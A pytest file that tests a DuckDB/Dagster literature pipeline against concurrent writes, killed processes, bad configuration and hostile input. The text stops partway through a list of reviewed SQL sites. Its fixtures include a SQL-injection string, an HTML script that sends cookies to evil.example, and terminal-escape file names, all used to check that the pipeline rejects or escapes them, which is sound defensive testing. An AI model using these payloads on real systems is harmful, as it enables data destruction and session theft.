"""Reliability and security: concurrent runs, crashes, hostile input and bad configuration lose nothing.

Every fault here goes through the production write path: ``open_warehouse`` (the advisory lock
on ``<warehouse>.lock``) and ``replace_rows`` (one transaction per partition), either directly in
child processes or through Dagster's ``materialize`` of the real assets. Child processes are
started with ``scripts/fault_injection.py _child`` (the same worker the fault-injection script
uses) and killed for real with SIGKILL.

What readers see (measured here, DuckDB 1.5.5): DuckDB lets one process open the file for
writing, or any number of processes read-only, never both. So while a writer holds the file a
``connect_read_only`` fails at once with DuckDB's "Could not set lock" IOException (or waits,
given ``wait_s``); a reader that gets in always sees whole partitions. A writer that finds a
read-only connection open waits for it to close (``open_warehouse`` retries within its lock
timeout) instead of failing.
"""

from __future__ import annotations

import ast
import datetime as dt
import importlib.util
import json
import os
import random
import re
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import duckdb
import polars as pl
import pytest
from dagster import DagsterInstance, DagsterUnknownPartitionError, MultiPartitionKey, build_sensor_context, materialize
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from orchestration import cli
from litsynth.config import ConfigError, load_question, question_sources
from litsynth.corpus import SourcedPaper, discover_files, ingest_files, merge_papers, questions_table
from litsynth.ingest import parse_bytes
from litsynth.ingest.common import normalise_ws
from litsynth.records import ParseError
from litsynth.retrieval.vector_store import vector_table
from litsynth.text import chunk_id, chunk_text, whitespace_token_count
from litsynth.warehouse import WarehouseBusy, _exclusive_lock, connect_read_only, open_warehouse, replace_rows, replace_tables
from assets.corpus import CORPUS_TABLES
from orchestration.definitions import all_assets
from assets.resources import Project
from orchestration.sensors import new_papers

from .conftest import REPO_ROOT, SEEDS_DIR

CORPUS_ASSETS = ["questions", "question_files", "arxiv_harvest", "documents", "papers", "prior_reports"]
MAX_FILE_BYTES = 100_000  # the seeds are at most 66 kB; files over this are "too big" in these tests
EVIL = "x'; DROP TABLE papers; --"


def _load_fault_script():
    spec = importlib.util.spec_from_file_location("fault_injection", REPO_ROOT / "scripts" / "fault_injection.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


fi = _load_fault_script()


# --- helpers ------------------------------------------------------------------------------------


def _resources(warehouse: Path, corpus_dirs: list[str], **overrides) -> dict:
    settings = {"warehouse": {"path": str(warehouse)}, "ingest": {"corpus_dirs": corpus_dirs}, "arxiv": {"enabled": False}, **overrides}
    return {"project": Project(project_root=str(REPO_ROOT), overrides=settings)}


def _materialize(resources: dict, selection: list[str], instance: DagsterInstance | None = None, **kwargs):
    return materialize(list(all_assets), selection=selection, resources=resources, instance=instance or DagsterInstance.ephemeral(), **kwargs)


def _step_failures(result) -> list[str]:
    return [event.event_specific_data.error.to_string() for event in result.all_events if event.is_step_failure]


def _columns(con, table: str, *, timestamps: bool) -> list[str]:
    rows = con.execute(
        "SELECT column_name, data_type FROM duckdb_columns() WHERE database_name = current_database() AND table_name = ? ORDER BY column_index",
        [table],
    ).fetchall()
    return [name for name, dtype in rows if timestamps or not dtype.startswith("TIMESTAMP")]


def _snapshot(warehouse: Path, *, timestamps: bool = True, tables: list[str] | None = None) -> dict[str, list[tuple]]:
    """Every row of every table (or of ``tables``), in a stable order."""
    con = connect_read_only(warehouse, wait_s=60)
    try:
        names = tables or [r[0] for r in con.execute("SELECT table_name FROM duckdb_tables() WHERE database_name = current_database() ORDER BY 1").fetchall()]
        snapshot = {}
        for table in names:
            columns = ", ".join(f'"{c}"' for c in _columns(con, table, timestamps=timestamps))
            snapshot[table] = con.execute(f'SELECT {columns} FROM "{table}" ORDER BY ALL').fetchall()
        return snapshot
    finally:
        con.close()


def _frame_rows(frame: pl.DataFrame, drop_timestamps: bool = True) -> list[tuple]:
    if drop_timestamps:
        frame = frame.select([c for c, t in frame.schema.items() if not isinstance(t, pl.Datetime)])
    return sorted(frame.rows(), key=repr)


def _db_rows(warehouse: Path, table: str) -> list[tuple]:
    return sorted(_snapshot(warehouse, timestamps=False, tables=[table])[table], key=repr)


def _partition(warehouse: Path, partition: str) -> list[tuple]:
    con = connect_read_only(warehouse, wait_s=60)
    try:
        return con.execute("SELECT * FROM question_papers WHERE question_id = ? ORDER BY paper_id", [partition]).fetchall()
    finally:
        con.close()


def _expected_partition(partition: str, generation: int, n: int) -> list[tuple]:
    return fi.partition_rows(partition, generation, n).sort("paper_id").rows()


def _seed_only_tables():
    return ingest_files(discover_files([SEEDS_DIR]), root=REPO_ROOT, max_file_bytes=MAX_FILE_BYTES, questions=[f.question for f in question_sources(REPO_ROOT / "questions")])


# --- concurrency ----------------------------------------------------------------------------------


def test_concurrent_writers_and_dagster_runs_lose_nothing(tmp_path):
    """Six processes write one warehouse file at once: four replace their own question_papers
    partition twice each through open_warehouse + replace_rows, two materialise real assets
    through Dagster (``questions``; the corpus multi-asset). The file does not exist at the start,
    so they also race to create it and its schema. Meanwhile this process keeps opening
    read-only connections and records what it sees."""
    warehouse, go = tmp_path / "warehouse.duckdb", tmp_path / "go"
    raw = [f"writer-{i}" for i in range(4)]
    rows, rounds = 300, 2
    specs = {p: {"kind": "write", "partition": p, "rows": rows, "rounds": rounds} for p in raw}
    specs["dagster-questions"] = {"kind": "materialize", "corpus_dirs": [str(SEEDS_DIR)], "selection": ["questions"]}
    specs["dagster-corpus"] = {"kind": "materialize", "corpus_dirs": [str(SEEDS_DIR)], "selection": ["documents", "papers", "prior_reports"]}
    processes = {}
    for name, spec in specs.items():
        spec.update(warehouse=str(warehouse), ready=str(tmp_path / f"{name}.ready"), go=str(go), result=str(tmp_path / f"{name}.json"))
        processes[name] = fi.spawn_child(spec, tmp_path / f"{name}.log")
    try:
        for name, process in processes.items():
            fi.wait_for_file(tmp_path / f"{name}.ready", process, timeout_s=300)
        go.write_text("go")
        started = time.monotonic()
        seen = {"attempts": 0, "got_in": 0, "refused": 0, "creating": 0, "torn": []}
        while any(p.poll() is None for p in processes.values()):
            if warehouse.exists():
                seen["attempts"] += 1
                size = warehouse.stat().st_size
                try:
                    con = connect_read_only(warehouse)
                except duckdb.Error as exc:
                    if "Could not set lock" in str(exc):  # the documented outcome while a writer holds the file
                        seen["refused"] += 1
                    elif size < 3 * 4096:  # caught the instant the first writer creates the file (no header yet)
                        seen["creating"] += 1
                    else:
                        raise
                else:
                    try:
                        seen["got_in"] += 1
                        tables = {r[0] for r in con.execute("SELECT table_name FROM duckdb_tables()").fetchall()}
                        if "question_papers" in tables:
                            for p in raw:  # a reader sees a whole partition of one write, or none
                                state = fi.partition_state(con, p)
                                if state["rows"] and (state["rows"] != rows or len(state["generations"]) != 1):
                                    seen["torn"].append((p, state))
                        if "documents" in tables:
                            (documents,) = con.execute("SELECT count(*) FROM documents").fetchone()
                            if documents not in (0, 5):
                                seen["torn"].append(("documents", documents))
                    finally:
                        con.close()
            time.sleep(1.5)  # each attempt loads the extensions (~0.35 s of CPU): poll gently
        elapsed = time.monotonic() - started
        logs = {name: fi.log_tail(p, 4000) for name, p in processes.items()}
        for name, process in processes.items():
            assert process.returncode == 0, logs[name]
            assert not re.search(r"Could not set lock|WarehouseBusy|Conflicting lock", logs[name]), logs[name]
    finally:
        for process in processes.values():
            if process.poll() is None:
                process.kill()
                process.wait()

    # Every raw partition holds exactly its last write: none lost, none duplicated, none mixed.
    for p in raw:
        assert _partition(warehouse, p) == _expected_partition(p, rounds, rows)
    # The Dagster-written tables are exactly what ingestion of the seeds produces.
    expected = _seed_only_tables()
    for table in ("documents", "papers", "paper_sources", "prior_reports", "prior_report_claims", "prior_report_references"):
        assert _db_rows(warehouse, table) == _frame_rows(getattr(expected, table)), table
    sources = question_sources(REPO_ROOT / "questions")
    assert _db_rows(warehouse, "questions") == _frame_rows(questions_table(sources, root=REPO_ROOT))
    assert seen["torn"] == []
    waits = [w for name in raw for w in json.loads((tmp_path / f"{name}.json").read_text())["lock_waits_s"]]
    print(f"\nconcurrency: 6 writers done in {elapsed:.1f}s; lock waits up to {max(waits):.1f}s; readers: {seen}")


def test_a_writer_waits_for_an_open_read_only_connection(tmp_path):
    """An analyst's read-only connection must not make a pipeline write fail: the writer waits."""
    warehouse = tmp_path / "warehouse.duckdb"
    with open_warehouse(warehouse) as con:
        replace_rows(con, "question_papers", fi.partition_rows("p", 1, 50), {"question_id": "p"})
    reader = connect_read_only(warehouse)
    spec = {"kind": "write", "warehouse": str(warehouse), "partition": "p", "rows": 50, "rounds": 2,
            "ready": str(tmp_path / "ready"), "go": str(tmp_path / "go"), "result": str(tmp_path / "result.json")}
    process = fi.spawn_child(spec, tmp_path / "writer.log")
    try:
        fi.wait_for_file(tmp_path / "ready", process)
        (tmp_path / "go").write_text("go")
        time.sleep(2.0)
        assert process.poll() is None, fi.log_tail(process)  # still waiting for the reader, not failed
        assert reader.execute("SELECT count(*) FROM question_papers").fetchone() == (50,)
    finally:
        reader.close()
    assert fi.finish(process, 120) == 0
    assert json.loads((tmp_path / "result.json").read_text())["lock_waits_s"][0] >= 1.0  # it waited for the reader
    assert _partition(warehouse, "p") == _expected_partition("p", 2, 50)


# --- crashes ------------------------------------------------------------------------------------


@pytest.mark.parametrize("hook", ["after_delete", "after_insert"])
def test_sigkill_mid_transaction_leaves_the_partition_as_before(tmp_path, hook):
    """A child replacing a 5,000-row partition is SIGKILLed inside the transaction (after the
    DELETE, or after the INSERT just before COMMIT): the partition is exactly the old rows, the
    lock is free, and a re-run completes the write."""
    warehouse = tmp_path / "warehouse.duckdb"
    lock = warehouse.with_name(warehouse.name + ".lock")
    with open_warehouse(warehouse) as con:
        replace_rows(con, "question_papers", fi.partition_rows("target", 1, 5000), {"question_id": "target"})
        replace_rows(con, "question_papers", fi.partition_rows("bystander", 1, 100), {"question_id": "bystander"})
    before = _snapshot(warehouse)

    signal_file = tmp_path / "paused"
    spec = {"kind": "crash", "warehouse": str(warehouse), "partition": "target", "rows": 5000, "generation": 2, "hook": hook, "signal": str(signal_file)}
    process = fi.spawn_child(spec, tmp_path / "crash.log")
    try:
        fi.wait_for_file(signal_file, process)
        assert signal_file.read_text() == hook
        # The child is mid-transaction and holds both locks: the advisory one and DuckDB's.
        with pytest.raises(WarehouseBusy):
            with _exclusive_lock(lock, 0.2):
                pass
        with pytest.raises(duckdb.IOException, match="Could not set lock"):
            connect_read_only(warehouse)  # readers are refused while a writer holds the file
        with pytest.raises(WarehouseBusy, match="still locked by another process"):
            connect_read_only(warehouse, wait_s=0.3)
        os.kill(process.pid, signal.SIGKILL)
        assert process.wait(30) == -signal.SIGKILL
    finally:
        if process.poll() is None:
            process.kill()
            process.wait()

    with _exclusive_lock(lock, 0.2):  # fcntl locks die with their process
        pass
    assert _snapshot(warehouse) == before  # every table, every row, exactly as before the run
    with open_warehouse(warehouse, lock_timeout_s=5) as con:  # the re-run
        replace_rows(con, "question_papers", fi.partition_rows("target", 2, 5000), {"question_id": "target"})
    assert _partition(warehouse, "target") == _expected_partition("target", 2, 5000)
    assert _partition(warehouse, "bystander") == _expected_partition("bystander", 1, 100)


# --- hostile and malformed input, idempotency ----------------------------------------------------


ODD_NAME = f"-{EVIL} \u00fcn\u00ef c\u00f6d\u00e9.txt"  # leading dash, spaces, quote, semicolon, unicode
ESCAPE_NAME = "\x1b[2J\x1b]0;owned\x07 \u202eevil.txt"  # clears the screen and retitles a terminal if logged raw
NON_UTF8_NAME = os.fsdecode(b"caf\xe9 notes.txt")  # a Latin-1 file name: not valid UTF-8


def _hostile_corpus(root: Path) -> tuple[Path, dict[str, tuple[str, str | None]]]:
    """The seeds plus bad files; returns the folder and {file name: (status, reason fragment)}."""
    corpus = root / "corpus"
    shutil.copytree(SEEDS_DIR, corpus)
    seed = {p.name[:3]: p.read_bytes() for p in SEEDS_DIR.glob("*.txt")}
    page_001 = parse_bytes(seed["001"], name="001.txt").papers[0]
    listing_002 = parse_bytes(seed["002"], name="002.txt").papers[0]
    listing_003 = parse_bytes(seed["003"], name="003.txt").papers[0]
    outside = root / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_text("Daily Papers\n\nOutside Paper Zeta\n\nWe must never be ingested.\n", encoding="utf-8")
    good_pdf = fi.text_pdf(["A Paper In A Big PDF", "Abstract", "Text.", "1 Introduction", "More."], title="A Paper In A Big PDF")
    files: dict[str, bytes] = {
        "empty.txt": b"",
        "random.bin": random.Random(1).randbytes(4096),
        "truncated.pdf": good_pdf[: len(good_pdf) // 2],
        "error-page.pdf": b"<html><body>403 Forbidden</body></html>",
        "too-big.pdf": good_pdf[:-6] + b"%" + b"x" * MAX_FILE_BYTES + b"\n%%EOF\n",
        "too-big.txt": seed["002"] * 2,
        "utf16-no-bom.txt": seed["003"].decode("utf-8").encode("utf-16-le"),
        "latin1.txt": "Daily Papers\n\nCaf\u00e9 Retrieval\n\nAn abstract.\n".encode("latin-1"),
        "page.html": b"<!DOCTYPE html><html><head><script>fetch('https://evil.example/'+document.cookie)</script></head><body>Papers</body></html>",
        "missing-fields.jsonl": (json.dumps({"title": listing_003.title}) + "\n" + json.dumps({"id": "2501.00001", "abstract": "No title here."}) + "\n").encode(),
        "wrong-types.json": json.dumps([{"title": 42}, {"title": "A Paper", "authors": 42}]).encode(),
        "duplicate-ids.jsonl": "\n".join(
            json.dumps({"id": f"{page_001.arxiv_id}v{v}", "title": page_001.title, "abstract": "Same paper, listed twice."}) for v in (1, 2)
        ).encode() + b"\n",
        "listing-no-abstract.txt": f"Daily Papers\n\n{listing_002.title}\n\n  \u2022 3 authors\n\u00b7\nAug 23, 2025\n".encode(),
        "listing-empty.txt": b"Get trending papers in your email inbox!\n\nDaily Papers\n\nSubscribe\n",
        "copy-of-001.txt": seed["001"],
        ODD_NAME: seed["003"] + b"\n",
        NON_UTF8_NAME: seed["002"] + b"\n\n",
        ".hidden.txt": (outside / "secret.txt").read_bytes(),
        ESCAPE_NAME: b"\x00\x01\x02 not text at all",
    }
    for name, data in files.items():
        (corpus / name).write_bytes(data)
    (corpus / ".cache").mkdir()
    (corpus / ".cache" / "inside-hidden-dir.txt").write_bytes((outside / "secret.txt").read_bytes())
    (corpus / "link-outside.txt").symlink_to(outside / "secret.txt")
    (corpus / "linked-dir").symlink_to(outside, target_is_directory=True)
    expected = {
        "empty.txt": ("rejected", "empty file"),
        "random.bin": ("rejected", "binary content that is not a PDF"),
        "truncated.pdf": ("rejected", "PDF is truncated"),
        "error-page.pdf": ("rejected", "named .pdf but the content is not a PDF"),
        "too-big.pdf": ("rejected", "over the 100,000-byte limit"),
        "too-big.txt": ("rejected", "over the 100,000-byte limit"),
        "utf16-no-bom.txt": ("rejected", "UTF-16-LE text without a byte-order mark"),
        "latin1.txt": ("rejected", "not valid UTF-8 at byte 17 (0xe9)"),
        "page.html": ("rejected", "an HTML page"),
        "missing-fields.jsonl": ("ingested", "1 record(s) skipped: line 2: field 'title' is missing"),
        "wrong-types.json": ("rejected", "record 1: field 'title' must be a string, got int; record 2: field 'authors' must be a list of strings, got int"),
        "duplicate-ids.jsonl": ("ingested", None),
        "listing-no-abstract.txt": ("ingested", None),
        "listing-empty.txt": ("rejected", "no paper titles found"),
        "copy-of-001.txt": ("duplicate", "same bytes as "),
        ODD_NAME: ("ingested", None),
        "caf\\xe9 notes.txt": ("ingested", None),  # the undecodable byte is shown as \xe9
        ESCAPE_NAME: ("rejected", "binary content that is not a PDF"),
        **{p.name: ("ingested", None) for p in SEEDS_DIR.glob("*.txt")},
    }
    return corpus, expected


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory):
    """The hostile corpus materialised twice through Dagster on one warehouse."""
    root = tmp_path_factory.mktemp("hostile")
    corpus, expected = _hostile_corpus(root)
    warehouse = root / "warehouse.duckdb"
    resources = _resources(warehouse, [str(corpus)])
    resources["project"] = Project(project_root=str(REPO_ROOT), overrides={**resources["project"].overrides, "ingest": {"corpus_dirs": [str(corpus)], "max_file_bytes": MAX_FILE_BYTES}})
    timings, snapshots, messages = [], [], []
    for _ in range(2):
        started = time.monotonic()
        instance = DagsterInstance.ephemeral()
        result = _materialize(resources, CORPUS_ASSETS, instance, raise_on_error=False)
        assert result.success, _step_failures(result)
        timings.append(time.monotonic() - started)
        snapshots.append(_snapshot(warehouse))
        messages += [entry.user_message or "" for entry in instance.all_logs(result.run_id)]
    print(f"\nhostile corpus materialised in {timings[0]:.1f}s and {timings[1]:.1f}s")
    return {"root": root, "corpus": corpus, "expected": expected, "warehouse": warehouse, "resources": resources, "snapshots": snapshots, "messages": messages}


def test_file_names_reach_the_run_log_escaped(hostile_run):
    logged = [m for m in hostile_run["messages"] if "owned" in m]
    assert logged and all("\\x1b[2J\\x1b]0;owned\\x07 \\u202eevil.txt" in m for m in logged)
    assert not [m for m in hostile_run["messages"] if "\x1b" in m or "\x07" in m or "\u202e" in m]


def test_every_hostile_file_is_accounted_for_with_its_reason(hostile_run):
    con = connect_read_only(hostile_run["warehouse"])
    try:
        rows = {Path(path).name: (status, reason, fmt) for path, status, reason, fmt in con.execute("SELECT path, status, reason, format FROM documents").fetchall()}
    finally:
        con.close()
    expected = hostile_run["expected"]
    assert sorted(rows) == sorted(expected)  # one row per regular, visible file; nothing else
    for name, (status, fragment) in expected.items():
        got_status, reason, _ = rows[name]
        assert got_status == status, (name, rows[name])
        if fragment:
            assert reason and fragment in reason, (name, reason)
        if status != "ingested":
            assert reason, name  # nothing is turned away without a reason
    assert "001_" in rows["copy-of-001.txt"][1]
    assert rows["duplicate-ids.jsonl"][2] == "arxiv_jsonl" and rows["listing-no-abstract.txt"][2] == "listing_page"


def test_symlinks_and_hidden_files_are_not_followed(hostile_run):
    """discover_files skips dot-files, dot-folders and symlinks (file or folder): they get no
    documents row at all, and nothing they point to reaches the papers."""
    con = connect_read_only(hostile_run["warehouse"])
    try:
        paths = [r[0] for r in con.execute("SELECT path FROM documents").fetchall()]
        leaked = con.execute("SELECT count(*) FROM papers WHERE title ILIKE '%Outside Paper Zeta%' OR abstract ILIKE '%never be ingested%'").fetchone()[0]
    finally:
        con.close()
    assert not [p for p in paths if any(part in p for part in ("link-outside", "linked-dir", ".hidden", ".cache", "outside"))]
    assert leaked == 0
    assert all(Path(p).resolve().is_relative_to(hostile_run["corpus"].resolve()) or not Path(p).is_absolute() for p in paths)


def test_the_seed_papers_still_land_beside_hostile_files(hostile_run):
    expected = _seed_only_tables()
    con = connect_read_only(hostile_run["warehouse"])
    try:
        papers = {r[0] for r in con.execute("SELECT paper_id FROM papers").fetchall()}
        (duplicates,) = con.execute("SELECT count(*) - count(DISTINCT dedup_key) FROM papers").fetchone()
        odd = con.execute("SELECT path, papers_found FROM documents WHERE path LIKE ?", [f"%{EVIL}%"]).fetchall()
        seed_001_paper = con.execute(
            "SELECT DISTINCT s.paper_id FROM paper_sources s JOIN documents d USING (document_id) WHERE d.path LIKE '%001\\_%' ESCAPE '\\' OR d.path LIKE '%duplicate-ids.jsonl'"
        ).fetchall()
        (tables,) = con.execute("SELECT count(*) FROM duckdb_tables() WHERE table_name = 'papers'").fetchone()
    finally:
        con.close()
    # Same papers as the seeds alone: the good extra records only describe seed papers again.
    assert papers == set(expected.papers["paper_id"]) and len(papers) == expected.papers.height
    assert duplicates == 0
    assert len(seed_001_paper) == 1  # the two JSONL records with one arXiv id joined the seed-001 paper
    assert tables == 1 and len(odd) == 1 and Path(odd[0][0]).name == ODD_NAME and odd[0][1] == 20  # stored verbatim


def test_rematerialising_the_corpus_gives_identical_tables(hostile_run):
    """Run 1 and run 2 differ only in the load timestamps (documents.ingested_at and
    questions.loaded_at record when the run happened), never in a row."""
    first, second = hostile_run["snapshots"]
    assert set(first) == set(second)
    con = connect_read_only(hostile_run["warehouse"])
    try:
        column_types = {
            table: con.execute(
                "SELECT column_name, data_type FROM duckdb_columns() WHERE database_name = current_database() AND table_name = ? ORDER BY column_index", [table]
            ).fetchall()
            for table in first
        }
    finally:
        con.close()
    timestamp_columns = {}
    for table, types in column_types.items():
        keep = [i for i, (_, dtype) in enumerate(types) if not dtype.startswith("TIMESTAMP")]
        timestamp_columns.update({table: [name for name, dtype in types if dtype.startswith("TIMESTAMP")]} if len(keep) < len(types) else {})
        project = lambda rows: sorted((tuple(r[i] for i in keep) for r in rows), key=repr)  # noqa: E731
        assert project(first[table]) == project(second[table]), table
    # plan_steps.finished_at is the CLI's record of when a plan step last succeeded (empty here)
    assert timestamp_columns == {"documents": ["ingested_at"], "questions": ["loaded_at"], "plan_steps": ["finished_at"]}
    assert len(first["documents"]) == len(hostile_run["expected"]) and len(first["papers"]) > 40


def test_missing_corpus_folders_fail_the_step_and_keep_the_tables(hostile_run, tmp_path):
    """A corpus_dirs setting that names no existing folder is a configuration error, not an
    empty corpus: the step fails naming the field, and the corpus tables stay as they were."""
    warehouse = tmp_path / "warehouse.duckdb"
    shutil.copy(hostile_run["warehouse"], warehouse)
    before = _snapshot(warehouse, tables=list(CORPUS_TABLES))
    result = _materialize(_resources(warehouse, [str(tmp_path / "no-such-corpus")]), CORPUS_ASSETS, raise_on_error=False)
    failures = "\n".join(_step_failures(result))
    assert not result.success and "ConfigError" in failures and "ingest.corpus_dirs" in failures and "no-such-corpus" in failures
    assert _snapshot(warehouse, tables=list(CORPUS_TABLES)) == before


def test_corpus_tables_are_replaced_in_one_transaction(tmp_path):
    """replace_tables: a write that fails inside the transaction (a paper missing NOT NULL fields) rolls
    back the write to the table before it as well."""
    with open_warehouse(tmp_path / "warehouse.duckdb") as con:
        replace_rows(con, "questions", questions_table(question_sources(REPO_ROOT / "questions"), root=REPO_ROOT))
        before = con.execute("SELECT * FROM questions").fetchall()
        assert before
        with pytest.raises(duckdb.ConstraintException, match="NOT NULL"):
            replace_tables(con, [("questions", questions_table([], root=REPO_ROOT), None),
                                 ("papers", pl.DataFrame({"paper_id": ["p1"], "title": [None]}, schema={"paper_id": pl.Utf8, "title": pl.Utf8}), None)])
        assert con.execute("SELECT * FROM questions").fetchall() == before


# --- bad configuration ----------------------------------------------------------------------------

BROKEN_QUESTION = "id: Not A Valid Id\nquestion: short\nkeywords: [retrieval]\n"


def _tmp_project(root: Path, *, question: str | None = BROKEN_QUESTION, models: bool = True) -> Path:
    (root / "questions").mkdir(parents=True)
    shutil.copy(REPO_ROOT / "questions" / "one-to-many-defense-clip.yaml", root / "questions")
    if question is not None:
        (root / "questions" / "x.yaml").write_text(question, encoding="utf-8")
    if models:
        shutil.copy(REPO_ROOT / "models.yaml", root / "models.yaml")
    return root


def test_cli_names_the_broken_question_file_and_field_and_writes_nothing(tmp_path):
    project = _tmp_project(tmp_path / "project")
    started = time.monotonic()
    result = subprocess.run(
        [str(REPO_ROOT / ".venv" / "bin" / "litsynth"), "--project", str(project), "run", "--offline"],
        capture_output=True, text=True, timeout=300, cwd=tmp_path,
    )
    assert result.returncode == 2, result.stderr[-3000:]
    assert f"{project / 'questions' / 'x.yaml'}:" in result.stderr
    assert "field 'id'" in result.stderr and "field 'question'" in result.stderr
    assert "Traceback" not in result.stderr
    assert not (project / "var").exists()  # no warehouse, no Dagster home: nothing half-written
    print(f"\nCLI config error in {time.monotonic() - started:.1f}s: {result.stderr.strip().splitlines()[-1][:200]}")


@pytest.mark.parametrize(
    ("layout", "message"),
    [
        ({"models": False, "question": None}, "models.yaml: file not found"),
        ({"question": "- just\n- a list\n"}, "x.yaml: expected a mapping with fields id, question, keywords; got list"),
        ({"question": "id: [unclosed\n"}, "x.yaml: not valid UTF-8 YAML"),
    ],
)
def test_cli_other_configuration_errors_exit_2(tmp_path, capsys, layout, message):
    project = _tmp_project(tmp_path / "project", **layout)
    assert cli.main(["--project", str(project), "run", "--offline"]) == 2
    assert message in capsys.readouterr().err
    assert not (project / "var" / "warehouse.duckdb").exists()


@pytest.mark.parametrize("command", [["run", "--offline"], ["bench"]])
def test_cli_missing_project_folder_exits_2(tmp_path, capsys, command):
    assert cli.main(["--project", str(tmp_path / "no-such-project"), *command]) == 2
    assert "questions folder not found" in capsys.readouterr().err


@pytest.fixture(scope="module")
def config_warehouse(tmp_path_factory):
    """A warehouse holding the seed corpus, materialised through Dagster with a good configuration."""
    root = tmp_path_factory.mktemp("config")
    warehouse = root / "warehouse.duckdb"
    result = _materialize(_resources(warehouse, [str(SEEDS_DIR)]), CORPUS_ASSETS, raise_on_error=False)
    assert result.success, _step_failures(result)
    return warehouse


def test_dagster_step_fails_with_the_message_and_the_warehouse_is_unchanged(config_warehouse, tmp_path):
    """A missing questions folder is a configuration error: the step fails, nothing is written."""
    warehouse = tmp_path / "warehouse.duckdb"
    shutil.copy(config_warehouse, warehouse)
    before = _snapshot(warehouse)
    result = _materialize(_resources(warehouse, [str(SEEDS_DIR)], questions_dir=str(tmp_path / "questions")), CORPUS_ASSETS, raise_on_error=False)
    assert not result.success
    failures = "\n".join(_step_failures(result))
    assert "questions: questions folder not found" in failures and "ConfigError" in failures
    assert _snapshot(warehouse) == before  # no half-written state


@pytest.mark.parametrize("selection", [CORPUS_ASSETS, ["questions", "question_files", "documents", "papers", "prior_reports"]])
def test_dagster_records_a_broken_question_file_and_runs_the_others(config_warehouse, tmp_path, selection):
    """In Dagster (UI, schedule, sensors) a broken question file is that file's rejected row, named
    with its fields; the good question beside it is loaded and the corpus steps run."""
    warehouse = tmp_path / "warehouse.duckdb"
    shutil.copy(config_warehouse, warehouse)
    _tmp_project(tmp_path, question=BROKEN_QUESTION, models=False)
    result = _materialize(_resources(warehouse, [str(SEEDS_DIR)], questions_dir=str(tmp_path / "questions")), selection, raise_on_error=False)
    assert result.success, _step_failures(result)
    con = connect_read_only(warehouse)
    try:
        files = {Path(f).name: (status, reason) for f, status, reason in con.execute("SELECT file, status, reason FROM question_files").fetchall()}
        questions = [r[0] for r in con.execute("SELECT question_id FROM questions").fetchall()]
    finally:
        con.close()
    assert questions == ["one-to-many-defense-clip"] and files["one-to-many-defense-clip.yaml"] == ("loaded", None)
    status, reason = files["x.yaml"]
    assert status == "rejected" and "field 'id': String should match pattern" in reason and "field 'question': String should have at least 10 characters" in reason


def test_unknown_model_is_a_clear_error_in_the_catalog_and_in_dagster(config_warehouse, tmp_path):
    warehouse = tmp_path / "warehouse.duckdb"
    shutil.copy(config_warehouse, warehouse)
    before = _snapshot(warehouse)
    instance = DagsterInstance.ephemeral()
    instance.add_dynamic_partitions("question", ["one-to-many-defense-clip"])
    # A model partition key that is not in the catalog never starts a run.
    with pytest.raises(DagsterUnknownPartitionError, match="nope"):
        _materialize(_resources(warehouse, [str(SEEDS_DIR)]), ["embeddings"], instance,
                     partition_key=MultiPartitionKey({"question": "one-to-many-defense-clip", "model": "nope"}))
    # A catalog (models_file) that lacks a partition's model fails the step, naming the id and the file to fix.
    catalog = (REPO_ROOT / "models.yaml").read_text(encoding="utf-8")
    trimmed = re.sub(r"  - id: bm25\n(?:    .*\n)+", "", catalog).replace("components: [bm25, minilm-l6, mpnet-base]", "components: [minilm-l6, mpnet-base]")
    (tmp_path / "models.yaml").write_text(trimmed, encoding="utf-8")
    result = _materialize(_resources(warehouse, [str(SEEDS_DIR)], models_file=str(tmp_path / "models.yaml")), ["embeddings"], instance,
                          partition_key=MultiPartitionKey({"question": "one-to-many-defense-clip", "model": "bm25"}), raise_on_error=False)
    failures = "\n".join(_step_failures(result))
    assert "unknown model id 'bm25'" in failures and "models.yaml" in failures
    assert _snapshot(warehouse) == before


# --- security -----------------------------------------------------------------------------------


def test_the_ui_binds_to_localhost_by_default(tmp_path, monkeypatch, capsys):
    with pytest.raises(SystemExit) as exited:
        cli.main(["ui", "--help"])
    assert exited.value.code == 0
    assert "default 127.0.0.1" in capsys.readouterr().out
    launched = {}

    def fake_execve(path, argv, env):
        launched.update(argv=argv, env=env)
        raise SystemExit(0)

    monkeypatch.setattr(cli.os, "execve", fake_execve)
    monkeypatch.setattr(cli.os, "chdir", lambda path: None)
    with pytest.raises(SystemExit):
        cli.main(["--project", str(tmp_path), "ui"])
    argv = launched["argv"]
    assert argv[argv.index("-h") + 1] == "127.0.0.1"
    assert launched["env"]["LITSYNTH_PROJECT"] == str(tmp_path.resolve())  # the UI's definitions use --project
    assert "0.0.0.0" not in argv


SQL_METHODS = {"execute", "executemany", "sql", "query"}
# Every place that builds SQL text instead of passing a literal; each was reviewed. Identifiers
# cannot be bound parameters in DuckDB, so these format identifiers that are validated first;
# every value (ids, names, paths from input files, partition keys) is a bound parameter.
REVIEWED_SQL_SITES = {
    "orchestration/run_plan.py::table_digest": "table names are the ledger's constants (SELECTION_INPUTS, QUESTION_INPUTS, papers, benchmark_metrics), double-quoted; the WHERE text is a literal of StepLedger with its values bound",
    "litsynth/warehouse.py::load_extensions": "LOAD of the extension binary path inside an installed pip package, not user input",
    "litsynth/warehouse.py::_attach": "ATTACH takes no parameters; the warehouse path comes from Settings and is quoted by doubling single quotes",
    "litsynth/warehouse.py::_declared": "runs the DDL files of sql/schema and sql/views into an in-memory database, to read the declared column types",
    "litsynth/warehouse.py::apply_schema": "runs the DDL files of sql/schema and sql/views; DROP TABLE names come from duckdb_columns() of the live schema that are also in the expected one, double-quoted",
    "litsynth/warehouse.py::replace_tables.write": "table and column names are checked against the warehouse schema (_table_columns) before use and double-quoted; values are bound",
    "litsynth/warehouse.py::sync_partition.write": "table, partition and match column names are checked against the warehouse schema (_check_write) and double-quoted; values are bound",
    "litsynth/lake.py::load_lake_extensions": "LOAD of extension binaries inside installed pip packages (postgres through a symlink litsynth makes in var/), quoted by doubling single quotes",
    "litsynth/lake.py::_new_connection": "ATTACH takes no parameters; the catalog DSN and data path come from WarehouseSettings and are quoted by doubling single quotes; LAKE is a constant",
    "litsynth/lake.py::build_lake_schema": "runs the DDL files of sql/schema (and the vector-table template) in a scratch in-memory database",
